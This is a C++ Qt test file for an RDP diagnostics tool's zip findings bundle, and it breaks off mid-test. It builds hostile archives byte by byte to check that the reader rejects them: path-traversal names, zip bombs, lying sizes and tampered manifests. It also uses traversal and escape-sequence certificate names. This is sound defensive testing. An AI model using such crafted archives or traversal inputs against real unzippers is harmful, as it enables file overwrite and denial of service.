// SPDX-License-Identifier: GPL-3.0-or-later
// The findings bundle: layout, the reference code in every file, manifest, round trip,
// acceptance by other zip readers (unzip -t, Python's zipfile), atomic writing (a full disk
// simulated with RLIMIT_FSIZE leaves nothing behind), redaction across every file, and
// hostile archives built here byte by byte (traversal names, bombs, lies, tampering, …),
// hostile contents (edited findings, unknown codes, control characters) shown as data only,
// and certificates with any common name giving bundles that reopen.

#include "BundleFixtures.h"
#include "CliProcess.h"
#include "TestCertificates.h"

#include "bundle/Bundle.h"
#include "bundle/Redaction.h"
#include "bundle/ZipArchive.h"
#include "report/JsonReport.h"
#include "report/TicketSummary.h"
#include "support/SafeText.h"

#include <QCryptographicHash>
#include <QDir>
#include <QHostAddress>
#include <QJsonDocument>
#include <QNetworkInterface>
#include <QSslCertificate>
#include <QStandardPaths>
#include <QSysInfo>
#include <QTemporaryDir>
#include <QTest>
#include <QtEndian>

#include <algorithm>
#include <csignal>
#include <functional>
#include <sys/resource.h>

using namespace rdpdiag;
using namespace rdpdiag::test;

namespace {

// ---- A minimal zip writer with full control over every field (for hostile archives) ----

quint32 crc32(const QByteArray &data)
{
    static const auto table = [] {
        std::array<quint32, 256> t{};
        for (quint32 i = 0; i < 256; ++i) {
            quint32 c = i;
            for (int k = 0; k < 8; ++k)
                c = (c & 1) ? 0xEDB88320u ^ (c >> 1) : c >> 1;
            t[i] = c;
        }
        return t;
    }();
    quint32 crc = 0xFFFFFFFFu;
    for (const char byte : data)
        crc = table[(crc ^ static_cast<quint8>(byte)) & 0xFF] ^ (crc >> 8);
    return crc ^ 0xFFFFFFFFu;
}

/** Raw deflate of @p data (qCompress is zlib: strip its length, header and checksum). */
QByteArray deflateRaw(const QByteArray &data)
{
    const QByteArray zlib = qCompress(data, 9);
    return zlib.mid(6, zlib.size() - 10);
}

struct RawEntry
{
    QByteArray name;
    QByteArray data;
    bool deflate = true;
    qint64 declaredSize = -1; ///< the uncompressed size written in the headers (-1: true size)
    quint16 flags = 0x0800;   ///< general purpose flags (bit 0 = encrypted)
};

void put16(QByteArray &out, quint16 value)
{
    char bytes[2];
    qToLittleEndian(value, bytes);
    out.append(bytes, 2);
}

void put32(QByteArray &out, quint32 value)
{
    char bytes[4];
    qToLittleEndian(value, bytes);
    out.append(bytes, 4);
}

QByteArray rawZip(const QList<RawEntry> &entries, bool zip64Locator = false)
{
    QByteArray out;
    QByteArray directory;
    for (const RawEntry &entry : entries) {
        const QByteArray stored = entry.deflate ? deflateRaw(entry.data) : entry.data;
        const quint32 size =
            static_cast<quint32>(entry.declaredSize >= 0 ? entry.declaredSize : entry.data.size());
        const quint32 crc = crc32(entry.data);
        const quint32 offset = static_cast<quint32>(out.size());
        const quint16 method = entry.deflate ? 8 : 0;
        put32(out, 0x04034b50);
        put16(out, 20);
        put16(out, entry.flags);
        put16(out, method);
        put16(out, 0);
        put16(out, 0x5b78);
        put32(out, crc);
        put32(out, static_cast<quint32>(stored.size()));
        put32(out, size);
        put16(out, static_cast<quint16>(entry.name.size()));
        put16(out, 0);
        out += entry.name;
        out += stored;

        put32(directory, 0x02014b50);
        put16(directory, 0x031e);
        put16(directory, 20);
        put16(directory, entry.flags);
        put16(directory, method);
        put16(directory, 0);
        put16(directory, 0x5b78);
        put32(directory, crc);
        put32(directory, static_cast<quint32>(stored.size()));
        put32(directory, size);
        put16(directory, static_cast<quint16>(entry.name.size()));
        put16(directory, 0);
        put16(directory, 0);
        put16(directory, 0);
        put16(directory, 0);
        put32(directory, 0100644u << 16);
        put32(directory, offset);
        directory += entry.name;
    }
    const quint32 directoryOffset = static_cast<quint32>(out.size());
    out += directory;
    if (zip64Locator) {
        put32(out, 0x07064b50);
        put32(out, 0);
        put32(out, 0);
        put32(out, 0);
        put32(out, 1);
    }
    put32(out, 0x06054b50);
    put16(out, 0);
    put16(out, 0);
    put16(out, static_cast<quint16>(entries.size()));
    put16(out, static_cast<quint16>(entries.size()));
    put32(out, static_cast<quint32>(directory.size()));
    put32(out, directoryOffset);
    put16(out, 0);
    return out;
}

QByteArray manifestFor(const QList<RawEntry> &files, const QByteArray &schema = "rdpdiag-bundle/1",
                       const QString &reference = QLatin1String(kSampleReference))
{
    QJsonArray list;
    for (const RawEntry &file : files)
        list.append(QJsonObject{
            {QStringLiteral("name"), QString::fromLatin1(file.name)},
            {QStringLiteral("size"), file.data.size()},
            {QStringLiteral("sha256"),
             QString::fromLatin1(
                 QCryptographicHash::hash(file.data, QCryptographicHash::Sha256).toHex())}});
    return QJsonDocument(QJsonObject{{QStringLiteral("schema"), QString::fromLatin1(schema)},
                                     {QStringLiteral("reference"), reference},
                                     {QStringLiteral("redacted"), false},
                                     {QStringLiteral("files"), list}})
        .toJson();
}

/** The files of a good bundle (without manifest) and the archive made of them. */
QList<RawEntry> goodFiles()
{
    return {{"report.json", reportToJsonBytes(sampleReport())},
            {"summary.txt", renderTicketSummary(sampleReport(), false).toUtf8()},
            {"environment.json", "{\"hostname\": \"x\"}"},
            {"rdpdiag.log", "# rdpdiag log K7QM2XH9\n"}};
}

QByteArray bundleOf(QList<RawEntry> files, const QByteArray &manifest = {})
{
    files.prepend({"manifest.json", manifest.isNull() ? manifestFor(files) : manifest});
    return rawZip(files);
}

/** Every file of a bundle on disk, by name (read with the engine's own zip reader). */
/** The first 12 hex digits of the SHA-256 of the certificate @p pem (its DER). */
QString sha256Prefix(const QByteArray &pem)
{
    return QString::fromLatin1(
        QSslCertificate(pem).digest(QCryptographicHash::Sha256).toHex().left(12));
}

/** goodFiles() with report.json edited by @p edit (and a manifest that matches). */
QByteArray bundleWithReport(const std::function<void(QJsonObject &)> &edit)
{
    QList<RawEntry> files = goodFiles();
    QJsonObject report = QJsonDocument::fromJson(files[0].data).object();
    edit(report);
    files[0].data = QJsonDocument(report).toJson();
    return bundleOf(files);
}

/** Replaces the finding @p index of @p report with @p finding's keys. */
void editFinding(QJsonObject &report, int index, const QJsonObject &changes)
{
    QJsonArray findings = report.value(QStringLiteral("findings")).toArray();
    QJsonObject finding = findings.at(index).toObject();
    for (auto it = changes.begin(); it != changes.end(); ++it)
        finding.insert(it.key(), it.value());
    findings.replace(index, finding);
    report.insert(QStringLiteral("findings"), findings);
}

/** True when @p text has a character that safeText() replaces. */
bool hasUnsafeCharacter(const QString &text)
{
    for (const QChar c : text)
        if (isUnsafeTextCharacter(c.unicode()))
            return true;
    return false;
}

/** The addresses of this machine that redaction must remove (not loopback). */
QStringList localAddresses()
{
    QStringList out;
    for (QHostAddress address : QNetworkInterface::allAddresses()) {
        if (address.isLoopback())
            continue;
        address.setScopeId(QString());
        out << address.toString();
    }
    return out;
}

} // namespace

class TestBundle : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void layoutAndReference();
    void roundTrip();
    void otherReadersAccept();
    void defaultName();
    void redactedBundleLeaksNothing();
    void noPasswordAnywhere();
    void writeFailures_data();
    void writeFailures();
    void fullDiskLeavesNothing_data();
    void fullDiskLeavesNothing();
    void rawZipHelperMakesGoodBundles();
    void hostile_data();
    void hostile();
    void readingWritesNothing();
    void certificateNamesReopen_data();
    void certificateNamesReopen();
    void unopenableBundleIsNotWritten();
    void editedFindingsShowTheCatalogue();
    void controlCharactersNeutralised();

private:
    Report reportWithChain() const
    {
        Report report = sampleReport();
        report.facts.certificate->chainPem = {m_leaf.certificatePem, m_ca.certificatePem};
        report.facts.certificate->pem = m_leaf.certificatePem;
        return report;
    }

    QTemporaryDir m_dir;
    TestCertificate m_ca;
    TestCertificate m_leaf;
};

void TestBundle::initTestCase()
{
    QVERIFY(m_dir.isValid());
    CertificateOptions ca;
    ca.commonName = QStringLiteral("Example Issuing CA");
    ca.organization = QStringLiteral("Example Corp");
    ca.certificateAuthority = true;
    m_ca = makeTestCertificate(ca, m_dir.path(), QStringLiteral("ca"));
    QVERIFY2(m_ca.isValid(), qPrintable(m_ca.error));
    CertificateOptions leaf;
    leaf.commonName = QStringLiteral("rdp01.corp.example.com");
    leaf.subjectAltNames = {QStringLiteral("DNS:rdp01.corp.example.com")};
    leaf.issuer = &m_ca;
    m_leaf = makeTestCertificate(leaf, m_dir.path(), QStringLiteral("leaf"));
    QVERIFY2(m_leaf.isValid(), qPrintable(m_leaf.error));
    QVERIFY(!QStandardPaths::findExecutable(QStringLiteral("unzip")).isEmpty());
    QVERIFY(!QStandardPaths::findExecutable(QStringLiteral("python3")).isEmpty());
}

void TestBundle::layoutAndReference()
{
    const QString path = m_dir.filePath(QStringLiteral("layout.zip"));
    BundleOptions options;
    options.log = "2026-11-24T10:00:00.000+0000 [info] [t1] run K7QM2XH9: diagnosing\n";
    const BundleWriteResult written = writeBundle(reportWithChain(), path, options);
    QVERIFY2(written.ok, qPrintable(written.error));
    QCOMPARE(written.path, QFileInfo(path).absoluteFilePath());
    const QMap<QString, QByteArray> files = filesOf(path);
    const QString leafName = QStringLiteral("certificates/0-rdp01.corp.example.com-%1.pem")
                                 .arg(sha256Prefix(m_leaf.certificatePem));
    QCOMPARE(files.keys(),
             (QStringList{leafName,
                          QStringLiteral("certificates/1-Example-Issuing-CA-%1.pem")
                              .arg(sha256Prefix(m_ca.certificatePem)),
                          QStringLiteral("environment.json"), QStringLiteral("manifest.json"),
                          QStringLiteral("rdpdiag.log"), QStringLiteral("report.html"),
                          QStringLiteral("report.json"), QStringLiteral("summary.txt")}));
    // The reference code is in every file; in the log, the PEM files and summary.txt on the
    // first line.
    for (auto it = files.cbegin(); it != files.cend(); ++it)
        QVERIFY2(it.value().contains(kSampleReference), qPrintable(it.key()));
    for (const QString &name :
         {QStringLiteral("rdpdiag.log"), QStringLiteral("summary.txt"), leafName})
        QVERIFY2(files.value(name).left(files.value(name).indexOf('\n')).contains(kSampleReference),
                 qPrintable(name));
    QVERIFY(files.value(QStringLiteral("rdpdiag.log")).contains("diagnosing"));
    // The PEM files are the chain, readable as certificates despite the comment header.
    const QList<QSslCertificate> leaf = QSslCertificate::fromData(files.value(leafName));
    QCOMPARE(leaf.size(), 1);
    QCOMPARE(leaf.first().toPem(), QSslCertificate(m_leaf.certificatePem).toPem());
    // The manifest lists every other file with its size and hash.
    const QJsonObject manifest =
        QJsonDocument::fromJson(files.value(QStringLiteral("manifest.json"))).object();
    QCOMPARE(manifest.value(QStringLiteral("schema")).toString(),
             QStringLiteral("rdpdiag-bundle/1"));
    QCOMPARE(manifest.value(QStringLiteral("redacted")).toBool(), false);
    const QJsonArray listed = manifest.value(QStringLiteral("files")).toArray();
    QCOMPARE(listed.size(), files.size() - 1);
    for (const QJsonValue &value : listed) {
        const QJsonObject entry = value.toObject();
        const QByteArray data = files.value(entry.value(QStringLiteral("name")).toString());
        QCOMPARE(entry.value(QStringLiteral("size")).toInteger(), data.size());
        QCOMPARE(entry.value(QStringLiteral("sha256")).toString(),
                 QString::fromLatin1(
                     QCryptographicHash::hash(data, QCryptographicHash::Sha256).toHex()));
    }
    // report.json is exactly the JSON report of the run.
    QCOMPARE(files.value(QStringLiteral("report.json")), reportToJsonBytes(reportWithChain()));
    const QJsonObject environment =
        QJsonDocument::fromJson(files.value(QStringLiteral("environment.json"))).object();
    QCOMPARE(environment.value(QStringLiteral("hostname")).toString(), QSysInfo::machineHostName());
}

void TestBundle::roundTrip()
{
    const QString path = m_dir.filePath(QStringLiteral("roundtrip.zip"));
    const Report report = reportWithChain();
    BundleOptions options;
    options.log = "line one\nline two\n";
    QVERIFY(writeBundle(report, path, options).ok);
    const BundleReadResult read = readBundle(path);
    QVERIFY2(read.contents, qPrintable(read.error));
    const BundleContents &contents = *read.contents;
    // The findings come back as this version's catalogue has them (BundleFixtures.h).
    QCOMPARE(contents.reportJson, reportToJsonBytes(reopened(report)));
    QCOMPARE(reportToJsonBytes(contents.report), contents.reportJson);
    QCOMPARE(contents.report.findings.size(), report.findings.size());
    for (qsizetype i = 0; i < report.findings.size(); ++i) {
        QCOMPARE(contents.report.findings.at(i).code, report.findings.at(i).code);
        QCOMPARE(contents.report.findings.at(i).evidence, report.findings.at(i).evidence);
    }
    QCOMPARE(contents.summaryText, renderTicketSummary(report, false).toUtf8());
    QVERIFY(contents.log.endsWith("line one\nline two\n"));
    QCOMPARE(contents.environment.value(QStringLiteral("reference")).toString(), report.reference);
    QVERIFY(!contents.redacted);

    // A redacted bundle reopens too, and says so.
    const QString redactedPath = m_dir.filePath(QStringLiteral("roundtrip-redacted.zip"));
    options.redact = true;
    QVERIFY(writeBundle(report, redactedPath, options).ok);
    const BundleReadResult redacted = readBundle(redactedPath);
    QVERIFY2(redacted.contents, qPrintable(redacted.error));
    QVERIFY(redacted.contents->redacted);
    QCOMPARE(reportToJsonBytes(redacted.contents->report), redacted.contents->reportJson);
    QCOMPARE(redacted.contents->report.target.host, QStringLiteral("host-1"));
    QCOMPARE(redacted.contents->report.findings.size(), report.findings.size());
}

void TestBundle::otherReadersAccept()
{
    const QString path = m_dir.filePath(QStringLiteral("others.zip"));
    QVERIFY(writeBundle(reportWithChain(), path, {}).ok);
    const Tool unzip = runTool(QStringLiteral("unzip"), {QStringLiteral("-t"), path});
    QVERIFY2(unzip.exitCode == 0, qPrintable(unzip.output));
    QVERIFY(unzip.output.contains(QStringLiteral("No errors detected")));
    const Tool python =
        runTool(QStringLiteral("python3"),
                {QStringLiteral("-c"),
                 QStringLiteral("import sys, zipfile\n"
                                "z = zipfile.ZipFile(sys.argv[1])\n"
                                "bad = z.testzip()\n"
                                "names = z.namelist()\n"
                                "print(len(names), bad)\n"
                                "sys.exit(0 if bad is None and 'report.json' in names else 1)\n"),
                 path});
    QVERIFY2(python.exitCode == 0, qPrintable(python.output));
}

void TestBundle::defaultName()
{
    const Report report = sampleReport();
    QCOMPARE(defaultBundleFileName(report, false),
             QStringLiteral("rdpdiag-rdp01.corp.example.com-20261124T100000Z-K7QM2XH9.zip"));
    QCOMPARE(defaultBundleFileName(report, true),
             QStringLiteral("rdpdiag-host-1-20261124T100000Z-K7QM2XH9.zip"));
    Report v6 = report;
    v6.target.host = QStringLiteral("fe80::1%eth0");
    QCOMPARE(defaultBundleFileName(v6, false),
             QStringLiteral("rdpdiag-fe80-1-eth0-20261124T100000Z-K7QM2XH9.zip"));
    v6.target.host = QStringLiteral("../../etc/passwd");
    QVERIFY(!defaultBundleFileName(v6, false).contains(QLatin1Char('/')));
}

void TestBundle::redactedBundleLeaksNothing()
{
    const QString path = m_dir.filePath(QStringLiteral("redacted.zip"));
    BundleOptions options;
    options.redact = true;
    // A log as the engine writes it, with names, addresses and a hex dump naming the host.
    options.log =
        "x [debug] dns rdp01.corp.example.com → 192.0.2.10 2001:db8::10\n"
        "x [debug] x224 request 0x01 → not_rdp (2 ms, 30 bytes: " +
        QByteArray("Server: rdp01.corp.example.com").toHex(' ') + ")\n" +
        "x [debug] user CORPDOM\\alice.smith from /home/alice/Desktop/Finance Server.rdp\n";
    QVERIFY(writeBundle(reportWithChain(), path, options).ok);
    const QMap<QString, QByteArray> files = filesOf(path);
    QVERIFY(!files.isEmpty());
    QStringList secrets = sampleSecrets() + localAddresses();
    const QString hostName = QSysInfo::machineHostName();
    if (hostName.size() >= 3 && hostName != QLatin1String("localhost"))
        secrets << hostName;
    for (auto it = files.cbegin(); it != files.cend(); ++it) {
        const QString found = findSecret(it.value(), secrets);
        QVERIFY2(found.isEmpty(), qPrintable(it.key() + QStringLiteral(": ") + found));
        QVERIFY2(findSecret(it.key().toUtf8(), secrets).isEmpty(), qPrintable(it.key()));
        QVERIFY2(it.value().contains(kSampleReference), qPrintable(it.key()));
    }
    // No certificates in a redacted bundle; the manifest says why.
    for (const QString &name : files.keys())
        QVERIFY2(!name.startsWith(QStringLiteral("certificates/")), qPrintable(name));
    const QJsonObject manifest =
        QJsonDocument::fromJson(files.value(QStringLiteral("manifest.json"))).object();
    QVERIFY(manifest.value(QStringLiteral("redacted")).toBool());
    const QJsonObject withheld =
        manifest.value(QStringLiteral("withheld")).toArray().first().toObject();
    QCOMPARE(withheld.value(QStringLiteral("count")).toInt(), 2);
    QVERIFY(
        withheld.value(QStringLiteral("reason")).toString().contains(QStringLiteral("signature")));
    // Placeholders are the same in every file.
    for (const QString &name : {QStringLiteral("report.json"), QStringLiteral("report.html"),
                                QStringLiteral("summary.txt"), QStringLiteral("rdpdiag.log")})
        QVERIFY2(files.value(name).contains("host-1"), qPrintable(name));
    QVERIFY(files.value(QStringLiteral("rdpdiag.log")).contains("dns host-1 → 10.x.x.1 fd00::x:1"));
    QVERIFY(files.value(QStringLiteral("report.json")).contains("\"10.x.x.1\""));
    // report.json is what --json --redact prints.
    QCOMPARE(files.value(QStringLiteral("report.json")),
             redactReport(reportWithChain()).jsonBytes());
    // The environment keeps its shape, with this computer's names and addresses replaced.
    const QJsonObject environment =
        QJsonDocument::fromJson(files.value(QStringLiteral("environment.json"))).object();
    QVERIFY(environment.value(QStringLiteral("redacted")).toBool());
    QVERIFY(environment.value(QStringLiteral("hostname"))
                .toString()
                .startsWith(QStringLiteral("host-")));
    QVERIFY(environment.value(QStringLiteral("interfaces")).isArray());
}

void TestBundle::noPasswordAnywhere()
{
    // The .rdp parser drops the blob; the bundle has no place where it could reappear.
    const QByteArray blob = "01000000D08C9DDF0115D1118C7A00C04FC297EB0100000072F1DEADBEEFCAFE";
    Report report = reportWithChain();
    QVERIFY(report.target.rdp->hadPasswordBlob);
    for (const bool redact : {false, true}) {
        const QString path = m_dir.filePath(QStringLiteral("password-%1.zip").arg(redact));
        BundleOptions options;
        options.redact = redact;
        options.log = "no blob here\n";
        QVERIFY(writeBundle(report, path, options).ok);
        for (const QByteArray &data : filesOf(path))
            QVERIFY(findSecret(data, {QString::fromLatin1(blob), QStringLiteral("password 51")})
                        .isEmpty());
    }
}

void TestBundle::writeFailures_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("message");
    QTest::newRow("missing folder")
        << m_dir.filePath(QStringLiteral("no/such/dir/b.zip")) << "does not exist";
    QTest::newRow("a folder") << m_dir.path() << "is a folder";
    QTest::newRow("empty") << QString() << "no file name";
    QTest::newRow("proc") << QStringLiteral("/proc/rdpdiag-test.zip") << "cannot write";
}

void TestBundle::writeFailures()
{
    QFETCH(QString, path);
    QFETCH(QString, message);
    const QStringList before =
        QDir(m_dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot);
    const BundleWriteResult written = writeBundle(sampleReport(), path, {});
    QVERIFY(!written.ok);
    QVERIFY2(written.error.contains(message), qPrintable(written.error));
    QVERIFY(!written.error.contains(QLatin1Char('\n')));
    QCOMPARE(QDir(m_dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot), before);
    if (!path.isEmpty() && path != m_dir.path())
        QVERIFY(!QFileInfo::exists(path));
}

void TestBundle::fullDiskLeavesNothing_data()
{
    QTest::addColumn<int>("logBytes");
    QTest::addColumn<int>("limit");
    // A small bundle fails only when the last bytes go out; a large one on the way.
    QTest::newRow("small bundle") << 0 << 2048;
    QTest::newRow("large bundle") << 200 * 1024 << 16 * 1024;
}

void TestBundle::fullDiskLeavesNothing()
{
    // A full disk, simulated: files may not grow beyond the limit (RLIMIT_FSIZE), and the
    // bundle is larger. Nothing may be left behind, and an existing bundle under the same
    // name must stay as it was.
    QFETCH(int, logBytes);
    QFETCH(int, limit);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("full.zip"));
    {
        QFile old(path);
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("the previous bundle");
    }
    QByteArray log;
    for (int i = 0; i < logBytes / 32; ++i)
        log += QCryptographicHash::hash(QByteArray::number(i), QCryptographicHash::Sha256)
                   .toHex()
                   .left(31) +
               '\n';
    BundleOptions options;
    options.log = log;

    rlimit saved{};
    QCOMPARE(getrlimit(RLIMIT_FSIZE, &saved), 0);
    const auto previousHandler = std::signal(SIGXFSZ, SIG_IGN);
    rlimit small = saved;
    small.rlim_cur = static_cast<rlim_t>(limit);
    QCOMPARE(setrlimit(RLIMIT_FSIZE, &small), 0);
    const BundleWriteResult written = writeBundle(sampleReport(), path, options);
    QCOMPARE(setrlimit(RLIMIT_FSIZE, &saved), 0);
    std::signal(SIGXFSZ, previousHandler);

    QVERIFY(!written.ok);
    QVERIFY(!written.error.isEmpty());
    QVERIFY(!written.error.contains(QLatin1Char('\n')));
    QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
             QStringList{QStringLiteral("full.zip")});
    QFile old(path);
    QVERIFY(old.open(QIODevice::ReadOnly));
    QCOMPARE(old.readAll(), QByteArray("the previous bundle"));

    // Without the limit the same write succeeds (so the failure above was the disk's).
    QVERIFY(writeBundle(sampleReport(), path, options).ok);
    QVERIFY(readBundle(path).contents);
}

void TestBundle::rawZipHelperMakesGoodBundles()
{
    // The hostile cases below are good bundles with one thing wrong: the helper's good
    // bundle must open, with stored and deflated entries alike.
    const BundleReadResult read = readBundleData(bundleOf(goodFiles()));
    QVERIFY2(read.contents, qPrintable(read.error));
    QList<RawEntry> stored = goodFiles();
    for (RawEntry &entry : stored)
        entry.deflate = false;
    QVERIFY(readBundleData(bundleOf(stored)).contents);
    // And it is a zip other readers accept.
    const QString path = m_dir.filePath(QStringLiteral("raw.zip"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(bundleOf(goodFiles()));
    file.close();
    QCOMPARE(runTool(QStringLiteral("unzip"), {QStringLiteral("-tq"), path}).exitCode, 0);
}

void TestBundle::hostile_data()
{
    QTest::addColumn<QByteArray>("archive");
    QTest::addColumn<QString>("message");

    const QList<RawEntry> good = goodFiles();
    const QByteArray valid = bundleOf(good);
    const auto with = [&good](const RawEntry &extra) {
        QList<RawEntry> files = good;
        files << extra;
        return bundleOf(files);
    };

    QTest::newRow("empty") << QByteArray() << "too short";
    QTest::newRow("garbage") << QByteArray(5000, 'x') << "no end of central directory";
    QTest::newRow("truncated") << valid.left(valid.size() / 2) << "not a valid findings bundle";
    QByteArray corrupt = valid;
    corrupt[50] = static_cast<char>(corrupt[50] ^ 0x55); // inside the manifest's deflate stream
    QTest::newRow("corrupt data") << corrupt << "manifest";
    QByteArray badDirectory = valid;
    badDirectory[badDirectory.size() - 3] = 0x7f; // directory offset beyond the end
    QTest::newRow("bad directory offset") << badDirectory << "central directory";

    for (const char *name :
         {"../evil.txt", "/etc/passwd", "a\\..\\b.txt", "C:evil.txt", "certificates/../../x", "./x",
          ".hidden", "a/b/c.txt", "certificates/", "évil.txt"})
        QTest::newRow(name) << with({name, "x"}) << "unsafe file name";
    // libzip's consistency check already refuses a control character in a name.
    QTest::newRow("control character") << with({"x\x01y", "x"}) << "not a valid findings bundle";
    QTest::newRow("very long name") << with({QByteArray(300, 'a'), "x"}) << "unsafe file name";

    QList<RawEntry> many = good;
    for (int i = 0; i < 100; ++i)
        many << RawEntry{"f" + QByteArray::number(i), "x"};
    QTest::newRow("too many entries") << bundleOf(many) << "too many files";

    QList<RawEntry> twice = good;
    twice << RawEntry{"report.json", "{}"};
    // libzip itself refuses the archive ("File already exists"); the reader says why.
    QTest::newRow("duplicate name") << rawZip(twice) << "already exists";

    // Zip bombs: an honest one larger than any bundle file …
    QTest::newRow("bomb: too large")
        << with({"rdpdiag.log2", QByteArray(20 * 1024 * 1024, '\0')}) << "too large";
    // … one within the size limit but expanding ~1000 times …
    QTest::newRow("bomb: ratio") << with({"big.log", QByteArray(12 * 1024 * 1024, '\0')})
                                 << "zip bomb";
    // … and one that lies: it declares 1 KiB and inflates to 8 MiB.
    QList<RawEntry> liar = good;
    liar << RawEntry{"liar.txt", QByteArray(8 * 1024 * 1024, 'A')};
    QByteArray liarManifest;
    {
        QList<RawEntry> declared = liar;
        declared.last().data = QByteArray(1024, 'A');
        liarManifest = manifestFor(declared);
        liar.last().declaredSize = 1024;
    }
    QTest::newRow("bomb: lying size") << bundleOf(liar, liarManifest) << "liar.txt";

    QTest::newRow("encrypted entry") << with({"secret.txt", "x", false, -1, 0x0801}) << "encrypted";
    QTest::newRow("zip64") << rawZip({{"report.json", "{}"}}, true) << "zip64";

    QTest::newRow("no manifest") << rawZip(good) << "no manifest.json";
    QTest::newRow("manifest not json")
        << bundleOf(good, "nope") << "manifest.json is not a JSON object";
    QTest::newRow("manifest future")
        << bundleOf(good, manifestFor(good, "rdpdiag-bundle/2")) << "newer rdpdiag";
    QTest::newRow("manifest other")
        << bundleOf(good, manifestFor(good, "something/1")) << "manifest schema";
    QList<RawEntry> unlisted = good;
    QList<RawEntry> listedOnly = good;
    unlisted << RawEntry{"extra.txt", "surprise"};
    QTest::newRow("unlisted file")
        << bundleOf(unlisted, manifestFor(good)) << "not in its manifest";
    listedOnly << RawEntry{"missing.txt", "gone"};
    QTest::newRow("listed but missing") << bundleOf(good, manifestFor(listedOnly)) << "lacks it";
    QList<RawEntry> tampered = good;
    tampered[0].data.replace("tls.reset", "tls.rEset");
    QTest::newRow("tampered file") << bundleOf(tampered, manifestFor(good)) << "SHA-256";
    QList<RawEntry> resized = good;
    resized[0].data.append(' ');
    QTest::newRow("size differs") << bundleOf(resized, manifestFor(good)) << "the manifest says";
    QJsonObject manifest = QJsonDocument::fromJson(manifestFor(good)).object();
    manifest.insert(
        QStringLiteral("files"),
        QJsonArray{QJsonObject{{QStringLiteral("name"), QStringLiteral("../x")},
                               {QStringLiteral("size"), 1},
                               {QStringLiteral("sha256"), QString(64, QLatin1Char('0'))}}});
    QTest::newRow("manifest unsafe name")
        << bundleOf(good, QJsonDocument(manifest).toJson()) << "invalid entry";

    QList<RawEntry> future = good;
    future[0].data.replace("rdpdiag-report/1", "rdpdiag-report/7");
    QTest::newRow("report future schema") << bundleOf(future) << "newer rdpdiag";
    QList<RawEntry> broken = good;
    broken[0].data = "{\"schema\": \"rdpdiag-report/1\", \"tool\": 5}";
    QTest::newRow("report broken") << bundleOf(broken) << "report.json: tool";
    QList<RawEntry> noReport = good;
    noReport.removeFirst();
    QTest::newRow("no report") << bundleOf(noReport) << "no report.json";
    QTest::newRow("other run") << bundleOf(good, manifestFor(good, "rdpdiag-bundle/1",
                                                             QStringLiteral("22222222")))
                               << "different runs";
}

void TestBundle::hostile()
{
    QFETCH(QByteArray, archive);
    QFETCH(QString, message);
    const BundleReadResult read = readBundleData(archive);
    QVERIFY(!read.contents);
    QVERIFY2(read.error.contains(message), qPrintable(read.error));
    QVERIFY2(!read.error.contains(QLatin1Char('\n')), qPrintable(read.error));
    QVERIFY(read.error.size() < 300);
}

void TestBundle::readingWritesNothing()
{
    // Reading (good and hostile bundles) never creates a file: not next to the bundle, not in
    // the temporary folder.
    QTemporaryDir dir;
    const QString tmp = dir.filePath(QStringLiteral("tmp"));
    QVERIFY(QDir().mkpath(tmp));
    const QByteArray savedTmp = qgetenv("TMPDIR");
    qputenv("TMPDIR", tmp.toLocal8Bit());
    const QString path = dir.filePath(QStringLiteral("b.zip"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QList<RawEntry> traversal = goodFiles();
    traversal << RawEntry{"../escape.txt", "x"};
    file.write(bundleOf(traversal));
    file.close();
    QVERIFY(!readBundle(path).contents);
    QVERIFY(readBundleData(bundleOf(goodFiles())).contents);
    qputenv("TMPDIR", savedTmp);
    QCOMPARE(QDir(tmp).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
             QStringList());
    QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
             (QStringList{QStringLiteral("b.zip"), QStringLiteral("tmp")}));
    QVERIFY(
        !QFileInfo::exists(QFileInfo(dir.path()).absolutePath() + QStringLiteral("/escape.txt")));
}

void TestBundle::certificateNamesReopen_data()
{
    QTest::addColumn<QString>("commonName");
    QTest::newRow("dot dot") << QStringLiteral("..");
    QTest::newRow("traversal") << QStringLiteral("../../etc/passwd");
    QTest::newRow("slash") << QStringLiteral("a/b");
    QTest::newRow("dots inside") << QStringLiteral("rdp01..corp...example.com");
    QTest::newRow("300 characters") << QString(300, QLatin1Char('a'));
    QTest::newRow("control character") << QStringLiteral("\x01");
    QTest::newRow("escape sequence") << QStringLiteral("x\x1b[2Jy\u202e");
    QTest::newRow("empty") << QString();
    QTest::newRow("unicode") << QStringLiteral("сервер.пример.рф");
    QTest::newRow("backslash and drive") << QStringLiteral("C:\\Windows\\..\\x");
}

void TestBundle::certificateNamesReopen()
{
    // A server's certificate may carry any common name; the bundle of that run reopens.
    QFETCH(QString, commonName);
    CertificateOptions options;
    options.commonName = commonName;
    options.subjectAltNames = {QStringLiteral("DNS:rdp01.corp.example.com")};
    options.issuer = &m_ca;
    const TestCertificate leaf =
        makeTestCertificate(options, m_dir.path(), QStringLiteral("odd-name"));
    QVERIFY2(leaf.isValid(), qPrintable(leaf.error));
    if (!commonName.isEmpty())
        QCOMPARE(QSslCertificate(leaf.certificatePem).subjectInfo(QSslCertificate::CommonName),
                 QStringList{commonName});
    Report report = sampleReport();
    report.facts.certificate->chainPem = {leaf.certificatePem, m_ca.certificatePem,
                                          leaf.certificatePem};
    report.facts.certificate->pem = leaf.certificatePem;
    const QString path = m_dir.filePath(QStringLiteral("odd-name.zip"));
    QFile::remove(path);
    const BundleWriteResult written = writeBundle(report, path, {});
    QVERIFY2(written.ok, qPrintable(written.error));
    const BundleReadResult read = readBundle(path);
    QVERIFY2(read.contents, qPrintable(read.error));
    const QMap<QString, QByteArray> files = filesOf(path);
    QStringList certificates;
    for (const QString &name : files.keys()) {
        QVERIFY2(isSafeEntryName(name), qPrintable(name));
        for (const QChar c : name)
            QVERIFY2(c.unicode() < 0x80, qPrintable(name));
        if (name.startsWith(QLatin1String("certificates/")))
            certificates << name;
    }
    // Three distinct files, the first and third the same certificate at different places.
